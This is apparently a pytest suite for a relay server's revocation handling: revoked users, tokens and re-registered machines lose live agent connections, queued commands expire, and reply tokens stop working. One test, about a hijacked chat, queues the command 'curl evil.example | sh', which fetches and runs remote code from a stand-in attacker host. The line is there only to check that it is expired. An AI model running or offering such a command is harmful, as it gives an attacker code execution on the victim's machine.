"""Revocation takes effect at once, on SQLite and PostgreSQL: ``server revoke`` (of a user or of a
token) and re-registering a machine close the agent connections opened before, on every replica
(in-process, through the Redis channel, or found by each replica's look at the last seconds'
revocations when the revoking process has no way to signal); a command sent afterwards is refused
(no live agent on that machine), one waiting is expired rather than left for the next agent
registered there, and a reply token issued before no longer queues anything.

The live-connection tests run the real server and agent processes (and two replicas on
PostgreSQL + Redis); the reply-token tests drive the in-process app with the Telegram stand-in.
"""

from __future__ import annotations

import dataclasses
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy
from click.testing import CliRunner
from cloud_kit import Account, Mailbox, wait_for
from fastapi.testclient import TestClient
from relay_kit import AgentProc, Server, api, cli, email, user_env
from sqlalchemy import select
from standins.kit import provider_settings, telegram
from standins.telegram import TelegramStandIn
from starlette.websockets import WebSocketDisconnect
from tg_kit import MACHINE, Chat, reply_token, update

from claude_notify.cloud.server import auth
from claude_notify.cloud.server.cli import server as server_cli
from claude_notify.cloud.server.db.models import ApiToken, User
from claude_notify.cloud.server.relay import queue
from claude_notify.cloud.server.relay.models import RelayAudit, RelayCommand
from claude_notify.cloud.server.relay.state import relay_of
from claude_notify.cloud.server.runtime import Runtime
from claude_notify.cloud.server.settings import Settings
from claude_notify.events import TaskEvent

__all__ = ["telegram"]
SESSION = "tty:/dev/pts/6:606"
PROMPT_S = 3.0
"""How soon a revoked connection must be closed, measured on a loaded 2-core machine (the server
promises a second; the rest is the agent noticing and writing its log line)."""


# --------------------------------------------------------------------------- live connections


class Machine:
    """A user's machine with its session known to the server and its agent registered."""

    def __init__(self, server: Server, tmp_path: Path) -> None:
        self.server, self.email = server, email()
        self.token = server.admin("create-user", self.email, "--plan", "pro")
        self.env = user_env(tmp_path / "user")
        cli(["login", "--server", server.url, "--token"], self.env,
            stdin=self.token.encode() + b"\n")
        self.project = tmp_path / "project"
        self.project.mkdir()
        cli(["run", "--exec", "--", "true"], {**self.env, "CLAUDE_NOTIFY_SESSION_ID": SESSION},
            cwd=self.project)
        cli(["sync"], self.env)
        wait_for(lambda: api(server, self.token, "GET", "/v1/tasks").json()["items"],
                 what="the session's task")
        cli(["agent", "--register"], self.env)
        cli(["agent", "--allow", "touch *", "--dir", str(self.project)], self.env)
        self.agent = AgentProc(self.env, self.project, tmp_path / "agent.log")

    def relay_token_id(self) -> str:
        engine = sqlalchemy.create_engine(self.server.env["DATABASE_URL"])
        try:
            with engine.connect() as conn:
                return str(conn.scalar(select(ApiToken.id).join(User).where(
                    ApiToken.scopes == "relay", User.email == self.email)))
        finally:
            engine.dispose()

    def queue(self, server: Server, command: str) -> httpx.Response:
        return httpx.post(f"{server.url}/v1/commands", timeout=10,
                          headers={"Authorization": f"Bearer {self.token}"},
                          json={"session_id": SESSION, "command": command})

    def cut_off(self, revoke: Callable[[], object]) -> float:
        """Revoke while connected; how long until the agent saw its connection closed."""
        self.agent.start()
        revoke()
        revoked = time.monotonic()
        wait_for(lambda: "agent: connection lost" in self.agent.text(), timeout=60,
                 what="the agent's connection to be closed")
        took = time.monotonic() - revoked
        # Its reconnection is refused: the agent stops for good and says why.
        assert self.agent.proc is not None
        self.agent.proc.wait(timeout=60)
        assert "refused this machine's agent credential" in self.agent.text()
        return took


@pytest.fixture(scope="module")
def shared_server(module_db_url: str, module_smtp: Mailbox) -> Iterator[Server]:
    """One server per database for the live-connection tests, each with a user of its own."""
    # The agents' own poll is two minutes: only the revocation itself can close them in time.
    server = Server.make(module_db_url, module_smtp, CLAUDE_NOTIFY_SERVER_RELAY_POLL_S="120")
    server.start()
    yield server
    server.stop()


@pytest.fixture
def machine(shared_server: Server, tmp_path: Path) -> Iterator[Machine]:
    made = Machine(shared_server.running(), tmp_path)
    yield made
    made.agent.stop()


def test_revoking_the_user_closes_the_live_agent_at_once(machine: Machine) -> None:
    """``server revoke`` is another process without Redis here: the server finds the revocation
    in the database by itself."""
    took = machine.cut_off(lambda: machine.server.admin("revoke", "--user", machine.email))
    assert took < PROMPT_S


def test_a_command_sent_after_the_agent_token_is_revoked_is_refused_and_never_runs(
    machine: Machine
) -> None:
    relay_token = machine.relay_token_id()
    answers: list[httpx.Response] = []

    def revoke_then_queue() -> None:
        machine.server.admin("revoke", "--token", relay_token)
        answers.append(machine.queue(machine.server, "touch after-revoke"))

    took = machine.cut_off(revoke_then_queue)
    assert took < PROMPT_S
    assert answers[0].status_code == 409 and "no agent is registered" in answers[0].text
    assert not (machine.project / "after-revoke").exists()


@pytest.mark.postgres
@pytest.mark.redis
def test_revocation_closes_an_agent_connected_to_another_replica(
    replicas: tuple[Server, Server], tmp_path: Path
) -> None:
    revoked_on, connected_to = replicas
    machine = Machine(connected_to, tmp_path)
    try:
        relay_token = machine.relay_token_id()
        answers: list[httpx.Response] = []

        def revoke_then_queue() -> None:
            revoked_on.admin("revoke", "--token", relay_token)
            answers.append(machine.queue(revoked_on, "touch after-revoke"))

        assert machine.cut_off(revoke_then_queue) < PROMPT_S
        assert answers[0].status_code == 409, answers[0].text
        assert not (machine.project / "after-revoke").exists()
    finally:
        machine.agent.stop()


# --------------------------------------------------------------------------- in-process


@pytest.fixture
def _slow_idle(client: TestClient) -> None:
    # Without the revocation, the connection would end only by its 5-second silence limit.
    relay = relay_of(client.app.state)
    relay.policy = dataclasses.replace(relay.policy, idle_s=5.0, poll_s=60.0)


def _session(client: TestClient, user: Account, machine: str = MACHINE) -> None:
    body = TaskEvent.from_dict({"type": "finished", "source": "run", "task_id": uuid.uuid4().hex,
                                "machine_id": machine, "session_id": SESSION,
                                "status": "success", "exit_code": 0, "command": "make",
                                "cwd": "/srv/project"}).to_dict()
    assert client.post("/v1/events", json=body, headers=user.headers).status_code == 202


def _register(client: TestClient, user: Account, machine: str = MACHINE) -> str:
    made = client.post("/v1/agents", json={"machine_id": machine}, headers=user.headers)
    assert made.status_code == 201, made.text
    token: str = made.json()["token"]
    return token


def _closed_after(ws: Any, revoke: Callable[[], object]) -> tuple[int, float]:
    """The close code the connection ends with once ``revoke`` ran, and how long that took."""
    ws.send_json({"type": "hello", "sessions": [], "running": []})
    ws.send_json({"type": "ping"})
    assert ws.receive_json() == {"type": "pong"}  # connected and registered
    revoke()
    started = time.monotonic()
    with pytest.raises(WebSocketDisconnect) as closed:
        while True:
            ws.receive_json()
    return closed.value.code, time.monotonic() - started


@pytest.mark.usefixtures("_slow_idle")
def test_re_registering_closes_the_old_connection_at_once(
    client: TestClient, make_user: Callable[..., Account]
) -> None:
    user = make_user(plan="pro")
    _session(client, user)
    old = _register(client, user)
    with client.websocket_connect("/v1/agent", headers={"Authorization": f"Bearer {old}"}) as ws:
        code, took = _closed_after(ws, lambda: _register(client, user))
    assert code == 1008 and took < 1.5


@pytest.mark.usefixtures("_slow_idle")
def test_server_revoke_from_another_process_closes_the_connection(
    client: TestClient, make_user: Callable[..., Account], settings: Settings,
    monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CLI shares nothing with the app but the database (no Redis)."""
    user = make_user(plan="pro")
    _session(client, user)
    token = _register(client, user)
    monkeypatch.setenv("DATABASE_URL", settings.database_url)

    def revoke() -> None:
        ran = CliRunner().invoke(server_cli, ["revoke", "--user", user.email])
        assert ran.exit_code == 0, ran.output

    with client.websocket_connect("/v1/agent",
                                  headers={"Authorization": f"Bearer {token}"}) as ws:
        code, took = _closed_after(ws, revoke)
    assert code == 1008 and took < 1.5


@pytest.fixture
def settings(settings: Settings, telegram: TelegramStandIn) -> Settings:
    return settings.replace(**provider_settings(telegram=telegram.base_url))


@pytest.fixture
def chat(client: TestClient, make_user: Callable[..., Account],
         telegram: TelegramStandIn) -> Chat:
    return Chat(client, make_user(plan="pro"), telegram)


def _reply(chat: Chat, token: str) -> tuple[int, str]:
    answer = chat.client.post("/v1/commands", json={"command": "./next.sh"},
                              headers={"Authorization": f"Bearer {token}"})
    return answer.status_code, answer.text


def _refusals(runtime: Runtime) -> list[str | None]:
    with runtime.sessions() as session:
        return [r.reason for r in session.scalars(
            select(RelayAudit).where(RelayAudit.outcome == "refused"))]


def test_a_reply_token_dies_when_its_owner_is_revoked(chat: Chat, runtime: Runtime) -> None:
    token = reply_token(chat.notify("session-a"))
    with runtime.sessions.begin() as session:
        auth.revoke_tokens(session, email=chat.user.email)
    status, text = _reply(chat, token)
    assert status == 401 and "revoked" in text, text
    assert _refusals(runtime) == ["the reply token was revoked"]


def test_a_reply_token_dies_when_its_machine_is_re_registered(chat: Chat,
                                                                runtime: Runtime) -> None:
    _register(chat.client, chat.user)
    _register(chat.client, chat.user, "machine-other-99")
    here = reply_token(chat.notify("session-a"))
    there = reply_token(chat.notify("session-b", machine_id="machine-other-99"))
    _register(chat.client, chat.user)  # MACHINE again: its old agent token is revoked
    status, text = _reply(chat, here)
    assert status == 401 and "revoked" in text, text
    status, text = _reply(chat, there)  # another machine's reply token still works
    assert status == 202, text


def _reply_in_chat(chat: Chat, shown: dict[str, Any], text: str) -> None:
    assert chat.send(update(text, chat=chat.chat, reply_to=shown["message_id"])) == 200


def _commands(runtime: Runtime) -> list[tuple[str, str | None]]:
    with runtime.sessions() as session:
        return [(r.state, r.detail) for r in session.scalars(
            select(RelayCommand).order_by(RelayCommand.created_at))]


def test_revoking_the_user_expires_waiting_commands_and_the_chat_queues_no_more(
    chat: Chat, runtime: Runtime, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Someone who got hold of the account or its chat queued a command for the owner's
    offline machine; the operator revokes the user. The command must not wait for the next
    agent registered on that machine, and the linked chat must queue nothing more."""
    shown = chat.notify("session-a")
    _reply_in_chat(chat, shown, "curl evil.example | sh")
    assert _commands(runtime) == [("queued", None)]
    # The operator's CLI runs with the server's settings: its log keys seal what it writes.
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setenv("CLAUDE_NOTIFY_SERVER_LOG_KEYS", ",".join(settings.log_keys))
    ran = CliRunner().invoke(server_cli, ["revoke", "--user", chat.user.email])
    assert ran.exit_code == 0, ran.output
    assert "1 waiting relay command(s) expired" in ran.output
    assert _commands(runtime) == [("expired", "the machine's agent credential was revoked")]

    _reply_in_chat(chat, shown, "make deploy")
    assert len(_commands(runtime)) == 1  # refused, not queued
    assert _refusals(runtime)[-1] == "no agent is registered on that machine (run " \
                                     "`claude-notify agent register` there)"
    with runtime.sessions.begin() as session:  # the owner signs in again and re-registers
        user = session.get(User, chat.user.user_id)
        assert user is not None
        account = auth.issue_token(session, user, scopes=list(auth.ACCOUNT_SCOPES)).secret
    agent = chat.client.post("/v1/agents", json={"machine_id": MACHINE},
                             headers={"Authorization": f"Bearer {account}"})
    assert agent.status_code == 201, agent.text
    with runtime.sessions.begin() as session:
        assert queue.due(session, chat.user.user_id, MACHINE, set()) == []


def test_re_registering_a_machine_keeps_its_waiting_commands(chat: Chat,
                                                             runtime: Runtime) -> None:
    """The owner's own re-registration (a new credential for the same machine) is no reason to
    drop what they queued: the new agent gets it."""
    shown = chat.notify("session-a")
    _reply_in_chat(chat, shown, "make test")
    _register(chat.client, chat.user)
    with runtime.sessions.begin() as session:
        assert [row.command for row in queue.due(session, chat.user.user_id, MACHINE,
                                                 set())] == ["make test"]
